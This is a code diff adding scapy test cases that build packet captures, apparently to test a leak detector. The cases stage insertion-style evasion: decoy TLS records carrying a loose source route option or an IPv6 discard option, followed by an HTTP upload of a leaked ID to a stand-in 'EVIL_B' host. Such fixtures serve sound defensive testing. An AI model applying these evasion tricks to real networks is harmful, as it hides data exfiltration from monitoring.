@@ -42,8 +42,8 @@ from gen_replay import (  # noqa: E402
     tls_appdata,
 )
 from gen_classes import bt_msgs, ovpn_msgs, wg_msgs  # noqa: E402
-from scapy.layers.inet import IP, TCP, UDP  # noqa: E402
-from scapy.layers.inet6 import IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop  # noqa: E402
+from scapy.layers.inet import IP, IPOption_LSRR, TCP, UDP  # noqa: E402
+from scapy.layers.inet6 import HBHOptUnknown, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop  # noqa: E402
 from scapy.layers.dns import DNS, DNSQR, DNSRR  # noqa: E402
 from scapy.packet import Raw  # noqa: E402
 
@@ -859,6 +859,45 @@ def case_after_insert_hbh6(n):
     base = t.cseq
     pkt = (IPv6(src=S6, dst=E2M6) / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop()
            / TCP(sport=42162, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy))
+    cap.emit(l2(S6, E2M6, ()) / pkt, t.rtt // 2)
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_insert_ipopt(n):
+    """The decoy record with a loose source route option (hosts drop it by
+    default); its TCP checksum is right for the addresses on the wire."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42163, E2M, 263, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    seg = TCP(sport=42163, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy)
+    ck = IP(bytes(IP(src=S1, dst=E2M) / seg))[TCP].chksum
+    t.raw(True, "PA", decoy, seq=base, ipkw={"options": [IPOption_LSRR(routers=["192.0.2.1"])]},
+          tcpkw={"chksum": ck})
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_insert_dstopt6(n):
+    """IPv6: the decoy record with a Destination Options header holding an
+    option of an unknown type that says discard (RFC 8200 4.2), then plaintext HTTP."""
+    cap = Capture()
+    t = tls_established(cap, S6, 42164, E2M6, 264, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    pkt = (IPv6(src=S6, dst=E2M6) / IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)])
+           / TCP(sport=42164, dport=443, flags="PA", seq=base, ack=t.sseq, window=64240) / Raw(decoy))
     cap.emit(l2(S6, E2M6, ()) / pkt, t.rtt // 2)
     t.raw(True, "PA", http, seq=base)
     t.cseq = base + len(http)
